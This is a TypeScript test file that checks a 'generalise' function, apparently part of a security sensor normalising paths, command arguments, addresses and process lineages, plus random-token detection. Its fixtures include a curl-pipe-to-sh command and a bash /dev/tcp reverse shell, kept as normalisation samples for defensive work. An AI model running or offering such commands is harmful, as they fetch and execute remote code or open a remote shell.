import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { generalise } from '../dist/tuple/generalise.js';
import { quoteArgs, splitArgs } from '../dist/tuple/quote.js';
import { isHexToken, isRandomToken } from '../dist/tuple/random-token.js';
import { costLimitMs, hostileTexts, leastCpuMs } from './tuple-hostile.js';

const CLASSES = ['word', 'path', 'args', 'address', 'lineage', 'flags'] as const;

const PATHS: [string, string][] = [
  ['/usr/bin/python3.11', '/usr/bin/python<n>'],
  ['/usr/bin/python3', '/usr/bin/python<n>'],
  ['/usr/bin/sha256sum', '/usr/bin/sha256sum'],
  ['/usr/sbin/e2fsck', '/usr/sbin/e2fsck'],
  ['/etc/ssh/sshd_config', '/etc/ssh/sshd_config'],
  ['/etc//ssh/./sshd_config/', '/etc/ssh/sshd_config'],
  ['/proc/4711/status', '/proc/<n>/status'],
  ['/proc/1/root/etc/shadow', '/proc/1/root/etc/shadow'],
  ['/proc/self/fd/3', '/proc/self/fd/<n>'],
  ['/tmp/foo.Xa81Kz', '/tmp/foo.<rand>'],
  ['/tmp/tmp.aB3xYz9qLm', '/tmp/tmp.<rand>'],
  ['/tmp/tmpkq7wzn2d/a.txt', '/tmp/tmp<rand>/a.txt'],
  ['/tmp/ccQw7RtZ.s', '/tmp/cc<rand>.s'],
  ['/tmp/build-QwErTy/x', '/tmp/build-<rand>/x'],
  ['/srv/build-QwErTy/x', '/srv/build-QwErTy/x'],
  [
    '/tmp/systemd-private-0123456789abcdef0123456789abcdef-apache2.service-QwErTy/tmp',
    '/tmp/systemd-private-<hex>-apache<n>.service-<rand>/tmp',
  ],
  ['/memfd:payload (deleted)', '/memfd:payload (deleted)'],
  ['/tmp/x12 (deleted)', '/tmp/x<n> (deleted)'],
  ['/usr/lib/libssl.so.3', '/usr/lib/libssl.so.<n>'],
  ['/lib/modules/6.1.0-18-cloud/kernel', '/lib/modules/<v>-cloud/kernel'],
  ['/var/log/app-2026-11-24.log', '/var/log/app-<ts>.log'],
  ['/var/lib/php/sessions/sess_4k2jq0v8m1tr7p9x3c5bn6hd2f', '/var/lib/php/sessions/sess_<rand>'],
  [`/var/lib/docker/containers/${'3f9ac12b'.repeat(8)}/x.log`, '/var/lib/docker/containers/<hex>/x.log'],
  ['/run/user/1000/bus', '/run/user/<n>/bus'],
  ['/home/alice/.ssh/id_rsa', '/home/alice/.ssh/id_rsa'],
  ['', ''],
  ['/', '/'],
];

const COMMANDS: [string, string][] = [
  ['sleep 5', 'sleep <n>'],
  ['sleep 0.5', 'sleep <n>'],
  ["bash -c 'curl http://203.0.113.9/x | sh'", "bash -c 'curl http://<ip>/x | sh'"],
  ["bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "bash -c 'bash -i >& /dev/tcp/<ip-private>/<n> <n>>&<n>'"],
  ['nc -l 0.0.0.0 4444', 'nc -l <ip-any> <n>'],
  ['nc -l 127.0.0.1 4444', 'nc -l <loopback> <n>'],
  ['curl http://169.254.169.254/latest', 'curl http://<ip-link>/latest'],
  ['ping fe80::1', 'ping <ip-link>'],
  ["curl 'http://[::1]:8080/'", "curl 'http://[<loopback>]:<n>/'"],
  ['ssh -p 22 root@192.168.1.5', 'ssh -p <n> root@<ip-private>'],
  ['tar -xzf a.tar.gz -C /srv', 'tar -xzf a.tar.gz -C /srv'],
  ['tar -C /srv -xzf a.tar.gz', 'tar -C /srv -xzf a.tar.gz'],
  ['apt install foo=1.2.3-4+deb12u1', 'apt install foo=<v>'],
  ['x 550e8400-e29b-41d4-a716-446655440000', 'x <uuid>'],
  ['x 2026-11-24T10:11:12.123Z 10:11:12', 'x <ts> <ts>'],
  ['ip link set eth0 address 02:42:ac:11:00:02', 'ip link set eth<n> address <mac>'],
  ['g++ std::vector a::b', 'g++ std::vector a::b'],
  ['x 0x7ffe 9f86d081884c', 'x <hex> <hex>'],
  ['x aBcDeFgH aBcDeFgH1111111111111111111111', 'x <rand> <rand><n>'],
  ['x 550e8400-e29b-41d4-a716-446655440000x', 'x <hex>-e29b-<n>d<n>-a<n>-<n>x'],
  ['docker run -p 8080:80 nginx', 'docker run -p <n>:<n> nginx'],
  ['mysql -p<redacted>', 'mysql -p<redacted>'],
  ['nginx: worker process', 'nginx: worker process'],
];

describe('generalise', () => {
  it.each(PATHS)('path %j is %j', (text, whole) => {
    expect(generalise('path', text).whole).toBe(whole);
  });

  it.each(COMMANDS)('args %j are %j', (text, whole) => {
    expect(generalise('args', text).whole).toBe(whole);
  });

  it('gives cumulative prefixes of a path, at most eight, the rest in the last', () => {
    expect(generalise('path', '/etc/ssh/sshd_config').prefixes).toEqual(['/etc', '/etc/ssh', '/etc/ssh/sshd_config']);
    expect(generalise('path', 'a/b').prefixes).toEqual(['a', 'a/b']);
    expect(generalise('path', '/').prefixes).toEqual(['/']);
    expect(generalise('path', '').prefixes).toEqual([]);
    const deep = generalise('path', '/a/b/c/d/e/f/g/h/i/j (deleted)');
    expect(deep.prefixes).toHaveLength(8);
    expect(deep.prefixes[6]).toBe('/a/b/c/d/e/f/g');
    expect(deep.prefixes[7]).toBe(deep.whole);
    expect(generalise('path', '/a/b/c/d/e/f/g/h').prefixes[7]).toBe('/a/b/c/d/e/f/g/h');
  });

  it('gives network prefixes of an address', () => {
    expect(generalise('address', '::ffff:10.0.0.5')).toEqual({
      whole: '10.0.0.5',
      prefixes: ['10.', '10.0.', '10.0.0.', '10.0.0.5'],
    });
    expect(generalise('address', '2001:DB8:1:2:3::9').prefixes).toEqual([
      '2001:db8::/32',
      '2001:db8:1::/48',
      '2001:db8:1:2::/64',
      '2001:db8:1:2:3::9',
    ]);
    expect(generalise('address', '127.1')).toEqual({ whole: '127.1', prefixes: [] });
  });

  it('keeps flags but for what the sensor found, and the first one apart', () => {
    const written = { whole: 'WRONLY|CREAT|TRUNC', prefixes: ['WRONLY'] };
    expect(generalise('flags', 'WRONLY|CREAT|TRUNC|CREATED')).toEqual(written);
    expect(generalise('flags', 'WRONLY|CREAT|TRUNC')).toEqual(written);
    expect(generalise('flags', 'RENAME_NOREPLACE|UNRESOLVED').whole).toBe('RENAME_NOREPLACE');
    expect(generalise('flags', 'UNRESOLVED')).toEqual({ whole: '', prefixes: [] });
    expect(generalise('flags', 'RDONLY')).toEqual({ whole: 'RDONLY', prefixes: ['RDONLY'] });
    expect(generalise('flags', '')).toEqual({ whole: '', prefixes: [] });
  });

  it('keeps words, for they are names', () => {
    for (const word of ['web1', 'web2', '1001', 'tcp', 'php-fpm8.2']) expect(generalise('word', word).whole).toBe(word);
    expect(generalise('word', 'pts/3').whole).toBe('pts/<n>');
    expect(generalise('word', 'registry/app:1.2.3').whole).toBe('registry/app:<v>');
    expect(generalise('word', '3f9ac12b'.repeat(8)).whole).toBe('<hex>');
  });

  it('generalises every program of a lineage', () => {
    const lineage = '/usr/bin/python3.11>/proc/12/exe (deleted)>/usr/sbin/sshd';
    const whole = '/usr/bin/python<n>>/proc/<n>/exe (deleted)>/usr/sbin/sshd';
    expect(generalise('lineage', lineage).whole).toBe(whole);
    expect(generalise('lineage', whole).whole).toBe(whole);
  });

  it('keeps sixteen arguments and cuts long ones', () => {
    const args = splitArgs(generalise('args', 'x '.repeat(30)).whole);
    expect(args).toHaveLength(17);
    expect(args[16]).toBe('<more>');
    expect(generalise('args', `x ${'a.'.repeat(200)}`).whole).toMatch(/^x (a\.){80}<more>$/);
    expect(generalise('args', `sh -c ${quoteArgs(['id; '.repeat(200)])}`).whole.length).toBeLessThan(540);
  });
});

/** Pieces whose seams are where generalisation could go wrong. */
const piece = fc.constantFrom(
  ...'1 12 0 3.11 1.2.3 -4 +deb12u1 a ab Abc aB3xYz x2x4z abc123 deadbeef tmp cc .s . .. / // /tmp/ /proc/1 - _ : :: [ ]'.split(
    ' ',
  ),
  ...'10.0.0.1 ::1 fe80:: <n> <v> <more> <redacted> < > ( = , é 2026-11-24 T10:11:12Z 10:11:12 aa:bb:cc:dd:ee:ff 0x7f'.split(
    ' ',
  ),
  ' ',
  "'",
  '"',
  '\\',
  '\n',
  '\0',
  ' (deleted)',
  'aBcDeFgH',
  '550e8400-e29b-41d4-a716-446655440000',
  '-c',
  'a'.repeat(70),
);
const grown = fc.oneof(
  fc.array(piece, { maxLength: 40 }).map((parts) => parts.join('')),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: fc.constantFrom(..."aBfz019.-_/:+~<>n '"), maxLength: 60 }),
);

describe('laws of generalisation', () => {
  it.each(CLASSES)('generalising again changes nothing: %s', (cls) => {
    fc.assert(
      fc.property(grown, (text) => {
        const once = generalise(cls, text);
        const twice = generalise(cls, once.whole);
        expect(twice.whole).toBe(once.whole);
        expect(twice.prefixes).toEqual(once.prefixes);
      }),
      { numRuns: 4000 },
    );
  });

  it('keeps the prefixes cumulative, the last one the whole', () => {
    fc.assert(
      fc.property(grown, fc.constantFrom('path', 'address'), (text, cls) => {
        const { whole, prefixes } = generalise(cls, text);
        expect(prefixes.length).toBeLessThanOrEqual(8);
        if (prefixes.length > 0) expect(prefixes.at(-1)).toBe(whole);
        if (cls === 'path') {
          for (let i = 1; i < prefixes.length; i++) expect(prefixes[i]!.startsWith(`${prefixes[i - 1]}/`)).toBe(true);
        }
      }),
    );
  });

  it('maps equal shapes to equal values', () => {
    const n = fc.integer({ min: 0, max: 999_999_999 });
    fc.assert(
      fc.property(n, n, (a, b) => {
        expect(generalise('args', `x --port=${a} job${a}`)).toEqual(generalise('args', `x --port=${b} job${b}`));
        expect(generalise('path', `/var/spool/${a}/part${a}.dat`)).toEqual(
          generalise('path', `/var/spool/${b}/part${b}.dat`),
        );
      }),
    );
    fc.assert(
      fc.property(fc.uuid(), fc.uuid(), (a, b) => {
        expect(generalise('args', `x id=${a}`)).toEqual(generalise('args', `x id=${b}`));
      }),
    );
  });

  it.each(CLASSES)(
    'takes linear time on every shape of 128 KiB: %s',
    (cls) => {
      const limit = costLimitMs(50, (text) => generalise(cls, text));
      for (const text of hostileTexts()) {
        expect(
          leastCpuMs(() => generalise(cls, text)),
          text.slice(0, 24),
        ).toBeLessThan(limit);
      }
    },
    60_000,
  );
});

describe('random tokens', () => {
  const share = (alphabet: string, length: number) => {
    let state = 7;
    let hits = 0;
    for (let i = 0; i < 2000; i++) {
      let token = '';
      for (let j = 0; j < length; j++) {
        state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
        token += alphabet[Math.floor((state / 2 ** 32) * alphabet.length)];
      }
      if (isRandomToken(token) || isHexToken(token)) hits++;
    }
    return hits / 2000;
  };
  const base36 = '0123456789abcdefghijklmnopqrstuvwxyz';
  const base62 = `${base36}ABCDEFGHIJKLMNOPQRSTUVWXYZ`;

  it('are mostly seen, the longer the surer', () => {
    const rates = {
      'base62, 8': share(base62, 8),
      'base62, 16': share(base62, 16),
      'base62, 32': share(base62, 32),
      'base36, 16': share(base36, 16),
      'base36, 26': share(base36, 26),
    };
    expect(rates['base62, 8'], JSON.stringify(rates)).toBeGreaterThan(0.7);
    expect(rates['base62, 16'], JSON.stringify(rates)).toBeGreaterThan(0.9);
    expect(rates['base62, 32']).toBeGreaterThan(0.98);
    expect(rates['base36, 16'], JSON.stringify(rates)).toBeGreaterThan(0.7);
    expect(rates['base36, 26']).toBeGreaterThan(0.95);
  });

  it('are not names', () => {
    const names =
      'getHttpServletRequestWrapper sha256sum e2fsck python3 NetworkManager systemd ed25519 x11vnc HTTPServer bzip2 ' +
      'MyClassFactoryBean libreoffice openssl postgresql15 kubelet containerd i386 amd64 utf8 base64 ipv6 mp3 h264 ' +
      'JavaScript nodejs18 log4j log4j2 OpenJDK11 gtk4 qt5ct mkfs ext4 README LICENSE AuthorizedKeysCommand X11Forwarding';
    for (const name of names.split(' ')) expect([name, isRandomToken(name)]).toEqual([name, false]);
  });
});
